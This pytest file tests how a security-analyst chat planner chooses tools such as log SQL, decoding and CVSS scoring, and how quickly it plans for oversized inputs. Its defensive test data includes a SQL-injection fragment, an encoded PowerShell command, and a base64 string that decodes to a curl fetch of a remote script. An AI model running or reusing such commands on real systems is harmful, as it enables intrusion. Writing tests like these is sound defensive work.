"""Which tools a prompt starts, and that choosing them costs little: it happens on the server's event loop."""

from __future__ import annotations

import re
import time
from collections.abc import Sequence
from pathlib import Path

import pytest

from secgemini_jupyter import indicators
from secgemini_jupyter.local_server.analyst.planner import nothing_fits, plan_for, request_of
from secgemini_jupyter.local_server.analyst.tool import Attached, Call

LOG = Attached("web.log", "log/clf", 100)
QUERY = "SELECT host, count(*) AS n FROM log GROUP BY host"


def calls(prompt: str, attachments: Sequence[Attached] = (LOG,)) -> list[Call]:
    return list(plan_for(request_of(prompt, attachments)).calls)


def queries(prompt: str) -> list[str]:
    return [call.arguments["sql"] for call in calls(prompt) if call.tool == "log_sql"]


def test_the_chat_proposes_what_the_analyst_can_answer() -> None:
    strings = (Path(__file__).parents[3] / "js" / "src" / "chat" / "strings.ts").read_text()
    (block,) = re.findall(r"  examples: \[\n(.*?)\n  \],", strings, re.DOTALL)
    examples = re.findall(r'"(.+)"', block)
    assert len(examples) == 3
    assert all(calls(example, [Attached("auth.log", "log/syslog", 100, has_logins=True)]) for example in examples)


@pytest.mark.parametrize(
    ("prompt", "query"),
    [
        (QUERY, QUERY),
        (f"  {QUERY};\n", QUERY),
        (f"On web.log run {QUERY}", QUERY),
        (f"With web.log, run {QUERY}", QUERY),
        (f"Run this query:\n{QUERY}", QUERY),
        (f"Run this:\n\n```sql\n{QUERY}\n```", QUERY),
        (f"```sql\n{QUERY}\n```", QUERY),
        (f"SQL: {QUERY}", QUERY),
        ("SELECT host\nFROM log\nLIMIT 3", "SELECT host\nFROM log\nLIMIT 3"),
        ("SELECT A\nFROM LOG", "SELECT A\nFROM LOG"),
        ("Run SELECT host,\n  uri\nFROM log", "SELECT host,\n  uri\nFROM log"),
        ("SELECT host FROM log WHERE uri = 'a: bcdefghijk'", "SELECT host FROM log WHERE uri = 'a: bcdefghijk'"),
        ('WITH x AS (SELECT 1) SELECT * FROM "log"', 'WITH x AS (SELECT 1) SELECT * FROM "log"'),
    ],
)
def test_a_query_that_the_user_says_or_asks_to_run_is_run(prompt: str, query: str) -> None:
    assert queries(prompt) == [query]


@pytest.mark.parametrize(
    "prompt",
    [
        "Explain this line to me:\n\nGET /x?q=1 UNION SELECT password FROM log",
        "Explain this line to me: GET /x?q=1 UNION SELECT password FROM log",
        "Is this query malicious?\n\nGET /x?q=1 UNION SELECT password FROM log",
        f"What is this?\n\n{QUERY}",
        f"What is this?\n```\n{QUERY}\n```",
        "Explain with care what came from log rotation",
    ],
)
def test_a_query_in_pasted_text_is_data(prompt: str) -> None:
    assert queries(prompt) == []


ENCODED = "powershell.exe -NoP -enc YwBhAGwAYwAuAGUAeABlAA=="


@pytest.mark.parametrize(
    "prompt",
    [
        ENCODED,
        f"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\{ENCODED}",
        f"Decode: {ENCODED}",
        f"What does this do?\n\n{ENCODED}",
        f"Explain this line:\nJan  5 01:00:00 h app: {ENCODED}",
        f"{ENCODED}{'A' * 500}\nwhat is hidden in it?",
        "Decode: H4sIAAAAAAAAAw==",
        "Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUwL3guc2g=",
        "What does Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUwL3guc2g= mean?",
        "what's this: 68 65 6c 6c 6f 20 77 6f 72 6c 64",
        "01101000 01100101 01101100 01101100 01101111",
        "What is this: Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUwL3guc2g=",
    ],
)
def test_encoded_text_that_the_user_says_or_asks_about_is_decoded(prompt: str) -> None:
    assert "decode" in [call.tool for call in calls(prompt, [])]


@pytest.mark.parametrize("said", ["Who logged in?", "Pull the IOCs out of this report:", "Thanks!", "Defang this:"])
def test_an_encoded_command_in_pasted_text_is_not_decoded_unasked(said: str) -> None:
    assert "decode" not in [call.tool for call in calls(f"{said}\n\nJan  5 01:00:00 h app: {ENCODED}", [])]


SIZE = 200_000
_HOSTILE = [
    "what is this?\n\n" + "select x\n" * (SIZE // 9), "run:\n" + "select x\n" * (SIZE // 9), "select x " * (SIZE // 9),
    "select x " + "from " * (SIZE // 5), "select x from" + " " * SIZE + "x", "run with x as (" * (SIZE // 15),
    'say "x"' + " " * SIZE + "z", 'say "x"' + ". " * (SIZE // 2) + "z", "say " + " " * SIZE, "hash " + "“" * SIZE,
    "hash of " * (SIZE // 8), "sha1 executables " * (SIZE // 17), "powershell " * (SIZE // 11),
    ("powershell -e" + " " * 150) * (SIZE // 163), "powershell -enco" * (SIZE // 16), "only " * (SIZE // 5),
    "only" + " " * SIZE, "as valid " * (SIZE // 9), "list " * (SIZE // 5), "defang evil.com " * (SIZE // 16),
    "find domains " + "a." * (SIZE // 2), ": " * (SIZE // 2), "\n" * SIZE, "```\n" * (SIZE // 4), "AV:N/" * (SIZE // 5),
    "CVSS:3.1/AV:N" * (SIZE // 13), "decode" + " " * SIZE + "x", "what is " * (SIZE // 8), "a" * SIZE,
    "rot13 x " + "it " * (SIZE // 3) + "x", "base64 encode " + "it " * (SIZE // 3),
]  # fmt: skip


@pytest.mark.parametrize(
    "prompt",
    [
        pytest.param(prompt, id=repr(prompt[:20]), marks=[pytest.mark.slow] if n % 5 else [])
        for n, prompt in enumerate(_HOSTILE)
    ],
)
def test_a_long_hostile_prompt_is_planned_at_once(prompt: str) -> None:
    indicators.extract("warm.example.com")
    start = time.process_time()
    request = request_of(prompt, [LOG])
    plan_for(request)
    nothing_fits(request)
    assert time.process_time() - start < 0.5


def test_a_wish_at_either_end_of_a_very_long_instruction_is_heard() -> None:
    filler = "word " * 10_000
    for prompt in (f"Summarise web.log {filler}", f"{filler} summarise web.log"):
        assert [call.tool for call in calls(prompt)] == ["log_summary"]


def test_thousands_of_attachments_are_planned_at_once() -> None:
    many = [Attached(f"log number {number}.log", "log/syslog", 10) for number in range(2_000)]
    start = time.process_time()
    assert [call.arguments for call in calls("Summarise LOG NUMBER 7.LOG, please. " * 100, many)] == [
        {"file": "log number 7.log"}
    ]
    calls("Summarise, hash, decode and defang. " * 100, many)
    assert time.process_time() - start < 0.6


def test_a_files_name_is_no_wish() -> None:
    named = [Attached("hash-summary.log", "log/syslog", 10), Attached("summary.log", "log/syslog", 10)]
    assert calls("Load Hash-Summary.log", named) == calls("load hash-summary.log", named)
    assert {call.tool for call in calls("Load Hash-Summary.log", named)} == {"log_load"}


VECTOR = "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N"


@pytest.mark.parametrize(
    ("prompt", "scored"),
    [
        (f"Is {VECTOR} worth waking someone up?", True),
        (VECTOR, True),
        (f"And this: {VECTOR}", True),
        (f"How severe is this?\n\nThe advisory says {VECTOR}.", True),
        (f"Pull the IOCs out of this report:\n\nIt exploits CVE-2021-44228 ({VECTOR}) from 203.0.113.7", False),
    ],
)
def test_a_vector_in_pasted_text_is_scored_when_it_is_asked_for(prompt: str, scored: bool) -> None:
    assert ("cvss_score" in {call.tool for call in calls(prompt, ())}) is scored
